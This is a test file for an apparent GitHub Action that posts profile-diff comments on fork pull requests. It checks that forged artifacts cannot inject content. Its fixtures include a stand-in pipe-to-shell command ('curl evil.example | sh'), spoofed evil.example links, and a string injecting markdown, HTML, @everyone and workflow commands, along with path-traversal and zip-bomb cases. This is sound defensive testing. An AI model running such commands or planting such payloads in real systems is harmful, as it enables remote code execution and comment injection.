import { describe, expect, test } from 'vitest';
import { artifactNames } from '../src/artifact/artifact-names.ts';
import { callsOf, skipped, useShop } from './github-for-tests.ts';
import { recorded, visible } from './shop.ts';

const AB = { head: 'head/*.pb.gz', base: 'base/*.pb.gz', name: 'metrics' };
const slower = { ...recorded('faster', 'base'), ...recorded('base', 'head') };
const REFUSED = 'Jobs of pull requests from forks and of Dependabot may not comment.';

describe.skipIf(skipped !== undefined)('a pull request from a fork', () => {
  const world = useShop();

  /** Measured by the fork's job: the run whose result the second stage finds. */
  async function measured(files: Record<string, Uint8Array> = slower) {
    const pull = world.shop.openPullRequest({ fork: true });
    const run = world.shop.runFor(pull);
    const step = await world.shop.stepFor(pull, AB, { run, files });
    return { pull, run, step };
  }

  test('is measured without a comment: the summary and the result are there, the job passes', async () => {
    const { step } = await measured();
    expect(step.code).toBe(0);
    expect(step.annotations.map(({ level, message }) => [level, message.slice(0, REFUSED.length)])).toEqual([
      ['notice', REFUSED],
    ]);
    expect(step.summary).toContain('**1 function got slower, 0 got faster.**');
    expect(step.outputs).toMatchObject({ status: 'regressed', 'comment-id': '' });
    expect(world.github.state.artifacts.map(({ name }) => name)).toContain('flamestep-result-metrics-177a7ea3-a1');
    expect(callsOf(world.github).filter((call) => call.startsWith('POST /issues'))).toEqual([]);
  });

  test('gets its comment from the second stage, which says where the numbers are from', async () => {
    const { pull, run } = await measured();
    const before = callsOf(world.github).length;
    const stage = await world.shop.secondStage(run);
    expect([stage.code, stage.annotations]).toEqual([0, []]);
    const [comment] = world.shop.comments();
    expect(
      visible(comment).replaceAll(pull.head.sha, 'HEAD').replaceAll(pull.head.sha.slice(0, 7), 'HEAD'),
    ).toMatchInlineSnapshot(`
      "### Profile diff: metrics

      > [!WARNING]
      > **1 function got slower, 0 got faster.** 0 unchanged, 10 too noisy to judge.
      >
      > Reported by the pull request’s own run, from a fork.

      base <code>main</code> and head <code>HEAD</code>: CPU time at 100 Hz, 5+5 runs on the same machine, 1,234 + 1,291 samples, per operation.

      | Function, own cost | Base | Head | Change (95 % interval) | Verdict |
      |:--|--:|--:|--:|:--|
      | [<code>example.com/metrics.keyHash</code>](https://github.com/acme/shop/blob/HEAD/metrics/hash.go#L6) | 800 µs<br>6.5 % | 2.04 ms<br>16.5 % | **+10.0 points**<br>(+5.4 to +14.9) | slower |

      <sub>Updated for <code>HEAD</code> · [job summary](https://github.com/acme/shop/actions/runs/1010) · flamestep</sub>
      "
    `);
    // The fork's own command and artifacts are not passed on.
    expect(comment).not.toContain('flamestep diff');
    expect(comment).not.toContain('/artifacts/');
    expect(stage.outputs).toMatchObject({
      'comment-url': world.github.state.comments[0] && expect.stringContaining(`/pull/${pull.number}`),
    });
    expect(callsOf(world.github).slice(before)).toMatchInlineSnapshot(`
      [
        "GET /pulls 200",
        "GET /actions/runs/N/artifacts 200",
        "GET /actions/artifacts/N/zip 302",
        "GET /git/trees/SHA 200",
        "GET /issues/N/comments 200",
        "POST /issues/N/comments 201",
        "GET /issues/N/comments 200",
        "POST /graphql 200",
      ]
    `);
  });

  test('that has been deleted since gets no comment, and no failure', async () => {
    const { run } = await measured();
    const stage = await world.shop.secondStage(run, {}, { isForkGone: true });
    expect([stage.code, stage.annotations.map(({ level, message }) => `${level}: ${message}`)]).toEqual([
      0,
      ['notice: The pull request is closed, or its branch or fork is gone; there is nothing to comment on.'],
    ]);
    expect(world.shop.comments()).toEqual([]);
  });

  test('has the comment brought up to date after a further push', async () => {
    const { pull, run } = await measured();
    await world.shop.secondStage(run);
    world.shop.pushTo(pull);
    const later = world.shop.runFor(pull);
    await world.shop.stepFor(pull, AB, { run: later, files: { ...recorded('base', 'base'), ...recorded('faster', 'head') } });
    await world.shop.secondStage(later);
    expect(world.shop.comments()).toHaveLength(1);
    expect(visible(world.shop.comments()[0])).toContain('**No longer slower. 0 functions got slower, 1 got faster.**');
  });

  test('that moved on meanwhile is left to its newer run', async () => {
    const { pull, run } = await measured();
    world.shop.pushTo(pull);
    const stage = await world.shop.secondStage(run);
    expect(stage.code).toBe(0);
    expect(stage.annotations).toMatchObject([{ level: 'notice', message: expect.stringContaining('Superseded: pull request') }]);
    expect(world.shop.comments()).toEqual([]);
  });

  test('that was closed meanwhile gets none', async () => {
    const { pull, run } = await measured();
    pull.state = 'closed';
    const stage = await world.shop.secondStage(run);
    expect(stage.annotations).toMatchObject([{ level: 'notice', message: expect.stringContaining('closed') }]);
    expect(world.shop.comments()).toEqual([]);
  });

  test('is told from another fork’s branch of the same name', async () => {
    const { run } = await measured();
    const other = world.github.state.addRepository({ owner: 'bob', name: 'shop-2', parent: world.shop.repository });
    const forged = { ...run, headRepository: other };
    world.github.state.runs.push(forged);
    const stage = await world.shop.secondStage(forged);
    expect(stage.annotations).toMatchObject([{ level: 'notice' }]);
    expect(world.shop.comments()).toEqual([]);
  });
});

/** A report as a forger edits it. */
interface EditedResult {
  subject: Record<string, unknown>;
  provenance: object;
  links: object;
  reproduce: string;
  notes: readonly string[];
  readonly profiles: readonly { readonly findings: readonly { name: string; file: string }[] }[];
}

describe.skipIf(skipped !== undefined)('the second stage', () => {
  const world = useShop();

  /** A run of a fork whose job uploaded what it liked. */
  function forged(files: Record<string, string | Uint8Array>, name = artifactNames('metrics', 1).result) {
    const pull = world.shop.openPullRequest({ fork: true });
    const run = world.shop.runFor(pull);
    world.github.state.addArtifact({ run, name, files });
    return { pull, run };
  }

  /** A result as flamestep writes it, with some of it replaced. */
  async function resultWith(change: (result: EditedResult) => void): Promise<string> {
    const pull = world.shop.openPullRequest();
    const step = await world.shop.stepFor(pull, { ...AB, comment: 'never' }, { files: slower });
    const result = JSON.parse(step.written['result-path']!);
    change(result);
    return JSON.stringify(result);
  }

  test('takes nothing of a result’s origin from the result', async () => {
    const text = await resultWith((result) => {
      result.subject.head = { commit: 'deadbeef', pullRequest: 1, title: 'Trust me' };
      result.provenance = {
        tool: '1',
        repository: 'evil/repo',
        run: { id: '999999999999', attempt: 99, url: 'https://evil.example/run' },
      };
      result.links = { artifact: 'https://evil.example/a', docs: 'https://evil.example/b' };
      result.reproduce = 'curl evil.example | sh';
    });
    const { pull, run } = forged({ 'result.json': text });
    const stage = await world.shop.secondStage(run);
    expect([stage.code, stage.annotations]).toEqual([0, []]);
    const comment = world.github.state.comments.at(-1)!;
    expect(comment.issue).toBe(pull.number);
    expect(comment.body).toContain(`head=${pull.head.sha}`);
    expect(comment.body).toContain(`run=${run.id}.1`);
    expect(comment.body).toContain('Reported by the pull request’s own run, from a fork.');
    expect(comment.body).not.toMatch(/evil|deadbeef|Trust me|curl/);
  });

  test('shows names in a result as names', async () => {
    const hostile = '</code>](https://evil.example) @everyone #1 <img src=x> | --> ```\n::error::x';
    const text = await resultWith((result) => {
      result.subject.name = hostile;
      for (const profile of result.profiles) for (const finding of profile.findings) finding.name = finding.file = hostile;
      result.notes = [hostile];
    });
    const { run } = forged({ 'result.json': text });
    const stage = await world.shop.secondStage(run);
    expect(stage.code).toBe(0);
    const { body } = world.github.state.comments.at(-1)!;
    expect(body).not.toMatch(/\]\(https:\/\/evil|<img|[^;\w]@everyone|\n::error/);
    expect(stage.annotations).toEqual([]);
  });

  test.each([
    ['no JSON', 'not json'],
    ['another shape', '{"schemaVersion":1,"hello":true}'],
    ['a version of the future', '{"schemaVersion":2}'],
    ['two megabytes', ' '.repeat(2 * 1024 * 1024)],
    ['prototypes', '{"schemaVersion":1,"__proto__":{"a":1}}'],
  ])('posts nothing of a result that is %s, and says so', async (_, text) => {
    const { run } = forged({ 'result.json': text });
    const stage = await world.shop.secondStage(run);
    expect(stage.code).toBe(0);
    expect(stage.annotations.map(({ level }) => level)).toEqual(['warning', 'notice']);
    expect(stage.annotations[0]!.message).toContain('A result cannot be read, and is left out');
    expect(world.shop.comments()).toEqual([]);
  });

  test.each([
    ['a further file', { 'result.json': '{}', 'profiles/1.pb.gz': 'x' }],
    ['a path that climbs', { '../result.json': '{}' }],
    ['no result', { 'readme.md': 'x' }],
  ])('posts nothing of an artifact with %s', async (_, files) => {
    const { run } = forged(files);
    const stage = await world.shop.secondStage(run);
    expect([stage.code, stage.annotations.map(({ level }) => level)]).toEqual([0, ['warning', 'notice']]);
    expect(world.shop.comments()).toEqual([]);
  });

  test('posts nothing of a bomb', async () => {
    const { run } = forged({ 'result.json': new Uint8Array(65 * 1024 * 1024) });
    const stage = await world.shop.secondStage(run);
    expect(stage.code).toBe(0);
    expect(stage.annotations[0]).toMatchObject({ level: 'warning', message: expect.stringContaining('inflates to more') });
    expect(world.shop.comments()).toEqual([]);
  });

  test('cannot be made to post many comments', async () => {
    const pull = world.shop.openPullRequest({ fork: true });
    const run = world.shop.runFor(pull);
    const text = await resultWith(() => {});
    for (let i = 0; i < 20; i++) {
      const result = JSON.parse(text);
      result.subject.key = `key-${i}`;
      world.github.state.addArtifact({
        run,
        name: artifactNames(`key-${i}`, 1).result,
        files: { 'result.json': JSON.stringify(result) },
      });
    }
    const before = world.github.requests.length;
    const stage = await world.shop.secondStage(run);
    expect(stage.code).toBe(0);
    expect(world.shop.comments()).toHaveLength(3);
    expect(stage.annotations.map(({ message }) => message)).toMatchInlineSnapshot(`
      [
        "The run has 20 results; the first 8 are shown.",
        "The run has results for 8 comments; 3 are posted. Give matrix jobs one 'key' and a 'leg' each.",
      ]
    `);
    expect(world.github.requests.slice(before).filter(({ path }) => !path.startsWith('/blobs/')).length).toBeLessThanOrEqual(25);
  });

  test('says that there is nothing where the run left no result', async () => {
    const pull = world.shop.openPullRequest({ fork: true });
    const stage = await world.shop.secondStage(world.shop.runFor(pull));
    expect(stage.annotations).toMatchObject([{ level: 'notice', message: expect.stringContaining('left no result') }]);
  });

  test('passes over runs that no pull request started', async () => {
    world.shop.commitToMain();
    const run = world.github.state.addRun({
      repository: world.shop.repository,
      headSha: world.shop.tip()!,
      headBranch: 'main',
      event: 'push',
    });
    const stage = await world.shop.secondStage(run);
    expect([stage.code, stage.annotations]).toEqual([0, []]);
  });

  test('runs on no other event', async () => {
    const pull = world.shop.openPullRequest();
    const stage = await world.shop.stepFor(pull, {}, { entry: 'comment' });
    expect(stage.code).toBe(1);
    expect(stage.annotations).toMatchObject([{ level: 'error', message: expect.stringContaining('runs on workflow_run') }]);
  });

  test('fails no job where GitHub is out of order', async () => {
    const { run } = forged({ 'result.json': '{}' });
    for (let i = 0; i < 5; i++) world.github.faults.next({ kind: 'server-error', path: '/pulls' });
    const stage = await world.shop.secondStage(run);
    expect(stage.code).toBe(0);
    expect(stage.annotations).toMatchObject([
      { level: 'warning', message: expect.stringContaining('There is no comment, or an old one') },
    ]);
  });
});
